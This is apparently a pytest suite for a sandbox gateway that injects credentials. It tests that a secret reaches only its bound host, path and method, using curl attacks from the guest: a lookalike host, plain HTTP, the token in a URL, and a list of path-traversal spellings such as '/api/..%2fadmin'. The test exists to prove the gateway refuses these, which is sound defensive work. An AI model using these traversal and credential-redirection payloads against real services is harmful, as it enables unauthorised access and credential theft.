"""Credentials injected by the gateway (docs/network.md, "Credentials in the
gateway"), against the test internet of tests/netlab.py: the guest holds a
placeholder; the gateway puts the value into requests to the credential's
host inside TLS it terminated, and nowhere else. Each attack goes on its own
connection with a marker in its query (?m=ID), is shown to have run (the
answer it got), is judged by what the origin's own log says reached it
under that marker, and is followed by the legitimate request that gets the
credential (its control), so an attack that wedges the gateway fails too."""

import json
import os
import sys
import time

import pytest

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from netlab import internet, net_log, sh  # noqa: E402,F401

VALUE = "ghp_Zq7VhT3kR9mW2xY5bN8c"  # not the placeholder's length: echoes tell them apart
STARS = "*" * len(VALUE)


def echoed(out):
    """The headers /echo saw, from curl's output."""
    return json.loads(out[out.index("{"):out.rindex("}") + 1])["headers"]


def hdr(headers, name):
    """A header by name in any case (HTTP/2 sends them in lowercase)."""
    return next((v for k, v in headers.items() if k.lower() == name.lower()), None)


def origin_got(internet, marker):
    """The requests the origin received with ?m=marker (and nothing after
    it in the marker's value)."""
    return [h for h in internet.origin_hits()
            if f"m={marker}&" in h["path"] + "&" or h["path"].endswith(f"m={marker}")]


def control(a, sid, internet, url, header, marker):
    """The legitimate request: the origin gets the value under marker, the
    guest sees its echo overwritten."""
    _, out = sh(a, sid, f'curl -sS --max-time 10 -H "{header}" "{url}?m={marker}"')
    assert VALUE not in out, out
    got = origin_got(internet, marker)
    assert len(got) == 1 and VALUE in json.dumps(got[0]["headers"]), (marker, out, got)
    return out


@pytest.mark.cases(6)  # wrong-host, in-url, lookalike, plain-http, the guest's own header, the sink
def test_credentials_go_only_where_they_are_bound(airlock_factory, internet):
    a = airlock_factory(prebuild="minimal,python", env=internet.env())
    a.api("POST", "/v1/secrets", {"name": "tok", "value": VALUE, "hosts": ["a.test"],
                                  "header": "Authorization: Bearer {value}"}, expect=201)
    sid = a.create(template="python", secrets=["tok"],
                   network={"allow": [{"host": "a.test"}, {"host": "*.a.test"}, {"host": "a.test.evil.test"},
                                      {"host": "e.test"}]})["id"]
    _, ph = sh(a, sid, "printf %s \"$TOK\"")
    assert ph.startswith("airlock_ph_") and VALUE not in ph, ph
    auth = "Authorization: Bearer $TOK"

    # the control: the guest sends its placeholder; the origin gets the
    # value, and the guest sees the echo of it overwritten
    out = control(a, sid, internet, "https://a.test/echo", auth, "ctl-h2")
    assert hdr(echoed(out), "Authorization") == "Bearer " + STARS, out  # the value's length: injected, then redacted
    assert ph not in out, out
    # curl speaks HTTP/2 to the gateway by default; the same over HTTP/1.1
    _, out = sh(a, sid, f'curl -sS --http1.1 --max-time 10 -H "{auth}" "https://a.test/echo?m=ctl-h1"')
    assert hdr(echoed(out), "Authorization") == "Bearer " + STARS, out
    assert len(origin_got(internet, "ctl-h1")) == 1

    # each: (the request, where it goes, what the origin must have got in
    # Authorization under its marker: the placeholder, i.e. nothing injected)
    attacks = {
        # another host under a wildcard the policy allows, over TLS the
        # gateway terminated: the credential is bound to a.test alone
        "wrong-host": f'curl -sS --max-time 10 -H "{auth}" "https://www.a.test/echo?m=wrong-host"',
        # the credential in the URL, to that host: it stays the placeholder
        "in-url": 'curl -sS --max-time 10 "https://www.a.test/echo?m=in-url&t=$TOK"',
        # a lookalike name that begins like the bound one, allowed and served
        "lookalike": f'curl -sS --max-time 10 -H "{auth}" "https://a.test.evil.test/echo?m=lookalike"',
        # the placeholder over plain HTTP to the bound host: no credential on port 80
        "plain-http": f'curl -sS --max-time 10 -H "{auth}" "http://a.test/echo?m=plain-http"',
    }
    for k, cmd in attacks.items():
        rc, out = sh(a, sid, cmd)
        assert rc == 0 and '"path"' in out, (k, out)  # it ran: the origin answered
        assert VALUE not in out, (k, out)
        got = origin_got(internet, k)
        assert len(got) == 1, (k, got)
        seen = json.dumps(got[0])
        assert VALUE not in seen and ph in seen, (k, seen)  # it went out, with the placeholder only
        control(a, sid, internet, "https://a.test/echo", auth, f"ctl-after-{k}")

    # the guest's own Authorization to the bound host is replaced, never passed
    _, out = sh(a, sid, 'curl -sS --max-time 10 -H "Authorization: Bearer forged" "https://a.test/echo?m=forged"')
    assert hdr(echoed(out), "Authorization") == "Bearer " + STARS, out
    got = origin_got(internet, "forged")
    assert len(got) == 1 and hdr(got[0]["headers"], "Authorization") == "Bearer " + VALUE, got
    # the placeholder to a host that speaks no HTTP (the sink records what it gets)
    sh(a, sid, f'curl -sS --max-time 5 -H "{auth}" http://e.test/x')
    hits = json.dumps(internet.sink_hits())
    assert VALUE not in hits and ph in hits, hits
    control(a, sid, internet, "https://a.test/echo", auth, "ctl-last")

    # every use is audited, with who, where and what, never the value
    events = a.api("GET", f"/v1/audit?sandbox={sid}")["events"]
    uses = [e for e in events if e.get("host") == "a.test" and e.get("action") == "injected"]
    assert len(uses) >= 2 + len(attacks) + 2, events
    assert not [e for e in events if e.get("action") == "injected" and e.get("host") != "a.test"], events
    assert VALUE not in json.dumps(events)
    # nor in any log
    assert VALUE not in open(a.log_path, errors="replace").read()
    assert VALUE not in json.dumps(net_log(a, sid))


@pytest.mark.cases(2)
def test_a_deleted_or_expired_credential_is_no_longer_injected(airlock_factory, internet):
    """Revocation on the wire: after DELETE /v1/secrets/NAME the gateway
    injects it no more (the origin gets the placeholder), and a credential
    past its expires_at is refused by the gateway; each with the request
    that still gets its credential before it, and an audit with no new
    injection after."""
    a = airlock_factory(prebuild="minimal,python", env=internet.env())
    a.api("POST", "/v1/secrets", {"name": "tok", "value": VALUE, "hosts": ["a.test"],
                                  "header": "Authorization: Bearer {value}"}, expect=201)
    soon = int(time.time()) + 15
    a.api("POST", "/v1/secrets", {"name": "soon", "value": VALUE, "hosts": ["www.a.test"], "expires_at": soon,
                                  "header": "X-Soon: {value}"}, expect=201)
    sid = a.create(template="python", secrets=["tok", "soon"],
                   network={"allow": [{"host": "a.test"}, {"host": "www.a.test"}]})["id"]
    _, ph = sh(a, sid, "printf %s \"$TOK\"")
    control(a, sid, internet, "https://a.test/echo", "Authorization: Bearer $TOK", "before-delete")

    a.api("DELETE", "/v1/secrets/tok", expect=204)
    injected = len([e for e in a.api("GET", f"/v1/audit?sandbox={sid}")["events"]
                    if e.get("secret") == "tok" and e.get("action") == "injected"])
    rc, out = sh(a, sid, 'curl -sS --max-time 10 -H "Authorization: Bearer $TOK" "https://a.test/echo?m=deleted"')
    assert rc == 0 and hdr(echoed(out), "Authorization") == "Bearer " + ph, out  # it ran; nothing injected
    got = origin_got(internet, "deleted")
    assert len(got) == 1 and hdr(got[0]["headers"], "Authorization") == "Bearer " + ph, got
    assert len([e for e in a.api("GET", f"/v1/audit?sandbox={sid}")["events"]
                if e.get("secret") == "tok" and e.get("action") == "injected"]) == injected

    # the other credential, before its time: injected (its control)
    control(a, sid, internet, "https://www.a.test/echo", "X-Soon: $SOON", "before-expiry")
    while time.time() < soon + 1:  # its expiry is a wall-clock time: the test waits for it to pass
        time.sleep(0.5)
    rc, out = sh(a, sid, 'curl -sS --max-time 10 -w " code=%{http_code}" -H "X-Soon: $SOON" '
                         '"https://www.a.test/echo?m=expired"')
    assert "code=403" in out and "expired" in out, out  # the gateway's own refusal
    assert origin_got(internet, "expired") == [], internet.origin_hits()[-3:]
    events = a.api("GET", f"/v1/audit?sandbox={sid}")["events"]
    assert any(e.get("secret") == "soon" and e.get("action") == "refused" and "expired" in e.get("reason", "")
               for e in events), events


# The spellings an independent probe got a credential scoped to "/api/"
# into "/admin" with (issue 29): each either is "/admin" once normalised as
# RFC 3986 says (refused by the path rule, 403) or reads two ways at
# origins (refused as ambiguous, 400). None reaches the origin.
NOT_BOUND = "the path is not one the credential is bound to"
PATH_ATTACKS = {
    "dotdot": ("/api/../admin", 403, NOT_BOUND),
    "enc-dots": ("/api/%2e%2e/admin", 403, NOT_BOUND),
    "enc-dots-caps": ("/api/%2E%2E/admin", 403, NOT_BOUND),
    "half-enc": ("/api/.%2e/admin", 403, NOT_BOUND),
    "two-up": ("/api/x/../../admin", 403, NOT_BOUND),
    "empty-seg": ("/api//../../admin", 403, NOT_BOUND),
    "above-root": ("/api/../../admin", 400, "above the root"),
    "enc-slash": ("/api/..%2fadmin", 400, "escaped '/'"),
    "enc-dots-slash": ("/api/%2e%2e%2fadmin", 400, "escaped '/'"),
    "semicolon": ("/api/..;/admin", 400, "';'"),
    "backslash": ("/api/..\\admin", 400, "'\\'"),
    "enc-backslash": ("/api/..%5cadmin", 400, "escaped '/' or '\\'"),
    "plain": ("/admin", 403, NOT_BOUND),
}


@pytest.mark.cases(2 * len(PATH_ATTACKS))  # over HTTP/2 and HTTP/1.1
def test_a_credentials_path_rule_is_decided_on_the_path_the_origin_reads(airlock_factory, internet):
    a = airlock_factory(prebuild="minimal,python", env=internet.env())
    a.api("POST", "/v1/secrets", {"name": "api", "value": VALUE, "hosts": ["a.test"], "paths": ["/api/"],
                                  "header": "X-Api-Key: {value}"}, expect=201)
    sid = a.create(template="python", secrets=["api"], network={"allow": [{"host": "a.test"}]})["id"]
    control(a, sid, internet, "https://a.test/api/x", "X-Api-Key: $API", "ctl-first")
    for k, (path, status, why) in PATH_ATTACKS.items():
        for proto in ("--http2", "--http1.1"):
            marker = f"{k}{proto[6:]}"
            before = len(net_log(a, sid))
            # --path-as-is: curl sends the dot segments as written
            rc, out = sh(a, sid, f"curl -sS --path-as-is {proto} --max-time 10 -w ' code=%{{http_code}}' "
                                 f"'https://a.test{path}?m={marker}'")
            # it ran, and the gateway answered it with its own refusal
            assert f"code={status}" in out and "airlock: egress to a.test" in out and "refused: " in out and why in out, \
                (marker, out)
            assert VALUE not in out, (marker, out)
            assert origin_got(internet, marker) == [], (marker, internet.origin_hits()[-2:])
            entries = net_log(a, sid)[before:]
            assert any(e["action"] == "deny" and why in e["reason"] for e in entries), (marker, entries)
            control(a, sid, internet, "https://a.test/api/x", "X-Api-Key: $API", f"ctl-{marker}")
    # the path decided on is the path forwarded: the origin reads it so
    out = control(a, sid, internet, "https://a.test/api/./x/../y%41%2a", "X-Api-Key: $API", "canonical")
    got = origin_got(internet, "canonical")
    assert got[0]["path"] == "/api/yA%2A?m=canonical", got
    assert hdr(echoed(out), "X-Api-Key") == STARS, out
    events = a.api("GET", f"/v1/audit?sandbox={sid}")["events"]
    refused = [e for e in events if e.get("action") == "refused"]
    assert len(refused) == 2 * len([s for _, s, _ in PATH_ATTACKS.values() if s == 403]), refused
    assert all(e["path"] == "/admin" for e in refused), refused  # audited as the origin would read it


@pytest.mark.cases(2)
def test_a_credential_bound_to_a_method_and_path_refuses_others(airlock_factory, internet):
    a = airlock_factory(prebuild="minimal,python", env=internet.env())
    a.api("POST", "/v1/secrets", {"name": "ro", "value": VALUE, "hosts": ["a.test"], "methods": ["GET"],
                                  "paths": ["/echo"], "header": "X-Api-Key: {value}"}, expect=201)
    # beside it, 15 more of 8000 bytes each: the largest set reaches the gateway whole
    for i in range(15):
        a.api("POST", "/v1/secrets", {"name": f"big{i}", "value": chr(ord("a") + i) * 8000,
                                      "hosts": [f"h{i}.example.org"], "header": "X-K: {value}"}, expect=201)
    sid = a.create(template="python", secrets=["ro"] + [f"big{i}" for i in range(15)],
                   network={"allow": [{"host": "a.test"}]})["id"]
    out = control(a, sid, internet, "https://a.test/echo", "X-Api-Key: $RO", "ctl-first")
    assert hdr(echoed(out), "X-Api-Key") == STARS, out
    _, out = sh(a, sid, "curl -sS --max-time 10 -w ' code=%{http_code}' 'https://a.test/hello.txt?m=path'")
    assert "code=403" in out and "path" in out, out
    assert origin_got(internet, "path") == []
    control(a, sid, internet, "https://a.test/echo", "X-Api-Key: $RO", "ctl-path")
    _, out = sh(a, sid, "curl -sS --max-time 10 -X POST -d x -w ' code=%{http_code}' 'https://a.test/echo?m=method'")
    assert "code=403" in out and "method" in out, out
    assert origin_got(internet, "method") == []
    control(a, sid, internet, "https://a.test/echo", "X-Api-Key: $RO", "ctl-method")
    events = a.api("GET", f"/v1/audit?sandbox={sid}")["events"]
    assert len([e for e in events if e.get("action") == "refused"]) == 2, events
